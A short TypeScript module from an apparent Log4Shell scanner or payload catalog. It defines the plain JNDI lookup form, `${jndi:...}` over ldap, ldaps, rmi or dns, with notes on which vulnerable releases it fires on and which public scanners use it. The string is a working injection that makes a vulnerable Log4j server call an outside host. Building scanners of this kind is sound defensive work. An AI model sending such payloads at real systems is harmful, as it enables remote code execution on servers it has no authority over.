import { type LookupForm, urlOf } from '../form.ts'

/** The lookup as its documentation writes it: it fires on every vulnerable release. */
export const plain: LookupForm = {
  id: 'plain',
  summary: 'the lookup as it is documented',
  schemes: ['ldap', 'ldaps', 'rmi', 'dns'],
  firesOn: ['A', 'B', 'C'],
  seenIn: ['CISA log4j-scan base, waf3, waf9', 'fullhunt log4j-scan base, waf3, waf9', 'most campaigns'],
  profile: 'quick',
  needsZone: false,
  write: (target) => `\${jndi:${urlOf(target)}}`,
  meaning: urlOf,
}
